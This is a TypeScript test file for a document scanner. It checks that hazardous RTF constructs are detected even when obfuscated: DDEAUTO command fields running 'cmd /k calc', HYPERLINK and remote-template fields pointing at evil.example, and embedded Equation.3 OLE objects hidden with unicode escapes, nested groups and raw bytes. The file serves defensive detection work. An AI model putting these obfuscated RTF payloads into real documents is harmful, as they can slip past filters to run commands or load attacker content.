/** RTF written so that a search for words finds none: readers put letters, groups and raw bytes together first. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { readAttachments } from '../../../src/traits/attachments.ts';
import { cpuClock } from '../../cpuTime.ts';
import { latin1, part } from '../parts.ts';

async function read(content: Buffer | string) {
  const { attachments, links } = await readAttachments({ parts: [part('a.rtf', content)] });
  return [
    ...(attachments[0]?.hazards ?? []).map(({ kind, quote }) => `${kind}: ${quote}`),
    ...links.map(({ url }) => url),
  ];
}
const numbered = (text: string, fallback: string): string =>
  [...text].map((letter) => `\\u${letter.charCodeAt(0)}${fallback}`).join('');
const negative = (text: string): string => [...text].map((letter) => `\\u-${65_536 - letter.charCodeAt(0)}?`).join('');
const field = (code: string): string => `{\\rtf1{\\field{\\*\\fldinst ${code}}{\\fldrslt x}}}`;

describe('fields', () => {
  const DDE = 'command-field: DDEAUTO cmd "/k calc"';
  const LINK = 'https://evil.example/login';
  test.each([
    ['DDE', field('DDEAUTO cmd "/k calc"'), [DDE]],
    ['in numbers with a letter behind each', field(`${numbered('DDEAUTO', 'x')} cmd "/k calc"`), [DDE]],
    ['in numbers with a code behind each', field(`${numbered('DDEAUTO', "\\'3f")} cmd "/k calc"`), [DDE]],
    ['in numbers with nothing behind them', field(`\\uc0${numbered('DDEAUTO', '')}  cmd "/k calc"`), [DDE]],
    ['in negative numbers', field(`${negative('DDE')}AUTO cmd "/k calc"`), [DDE]],
    ['in groups', field('{\\b D}{\\i DE{\\ul AUTO}} cmd "/k calc"'), [DDE]],
    ['with a destination nobody knows between', field('DDE{\\*\\junk XX}AUTO cmd "/k calc"'), [DDE]],
    ['a link', field(`HYPERLINK "${LINK}"`), [LINK]],
    ['a link in numbers', field(`HYPERLINK "htt${numbered('ps', 'x')}://evil.example/login"`), [LINK]],
    ['a link behind a switch', field(`HYPERLINK \\\\o "tip" "${LINK}"`), [LINK]],
    ['a link without quotes', field(`HYPERLINK ${LINK} `), [LINK]],
    ['what a field shows is none', '{\\rtf1{\\field{\\*\\fldinst PAGE}{\\fldrslt DDEAUTO cmd x}}}', []],
    ['nor is the text', '{\\rtf1 DDEAUTO cmd x HYPERLINK "https://a.example/"}', ['https://a.example/']],
  ])('%s', async (_name, content, expected) => {
    expect(await read(content)).toEqual(expected);
  });
  test('in Word\u2019s XML under the name of RTF', async () => {
    const xml = readFileSync(join(import.meta.dirname, '..', '..', 'fixtures', 'oletools', 'dde-in-word2003.xml'));
    expect(await read(xml)).toEqual([expect.stringMatching(/^command-field: DDEAUTO/)]);
  });
});

describe('a template from elsewhere', () => {
  const TARGET = 'http://evil.example/t.dotm';
  test.each([
    ['plainly', `\\*\\template ${TARGET}`],
    ['in numbers', `\\*\\template ${numbered('http', '?')}://evil.example/t.dotm`],
    ['in negative numbers', `\\*\\template ${negative(TARGET)}`],
    ['with a letter as a code', "\\*\\template \\'68ttp://evil.example/t.dotm"],
    ['behind a blank', `\\* \\template ${TARGET}`],
    ['behind a break', `\\*\n\\template ${TARGET}`],
  ])('%s', async (_name, group) => {
    expect(await read(`{\\rtf1{${group}}}`)).toEqual([`remote-template: template ${TARGET}`]);
  });
});

describe('an object', () => {
  /** MS-OLEDS §2.2.5: version, format, class, topic and item, size, data. */
  const object = Buffer.concat([
    Buffer.from('01050000020000000b000000', 'hex'),
    latin1('Equation.3\0'),
    Buffer.alloc(8),
    Buffer.from([40, 0, 0, 0]),
    Buffer.alloc(40),
  ]);
  const hex = object.toString('hex');
  test.each([
    ['plainly', latin1(`{\\rtf1{\\object{\\*\\objdata ${hex}}}}`)],
    ['with a group between', latin1(`{\\rtf1{\\object{\\*\\objdata 01{\\*\\x ff}${hex.slice(2)}}}}`)],
    ['with a code between', latin1(`{\\rtf1{\\object{\\*\\objdata 01\\'ff${hex.slice(2)}}}}`)],
    [
      'as raw bytes',
      Buffer.concat([
        latin1(`{\\rtf1{\\object{\\*\\objdata ${hex.slice(0, 16)}\\bin${object.length - 8} `),
        object.subarray(8),
        latin1('}}}'),
      ]),
    ],
  ])('%s', async (_name, content) => {
    expect(await read(content)).toEqual(['embedded-program: Equation.3 object']);
  });
});

test.each([
  ['groups', '{'],
  ['groups in fields', '{\\fldinst x'],
  ['objects', '{\\*\\objdata 01}'],
  ['numbers', '\\u68x'],
])(
  'four megabytes of %s are read soon',
  async (_name, piece) => {
    const content = `{\\rtf1${piece.repeat(Math.floor((4 * 1024 * 1024) / piece.length))}`;
    const spentMs = cpuClock();
    await read(content);
    expect(spentMs()).toBeLessThan(5_000); // ms; minutes if it grew with the square
  },
  30_000,
);
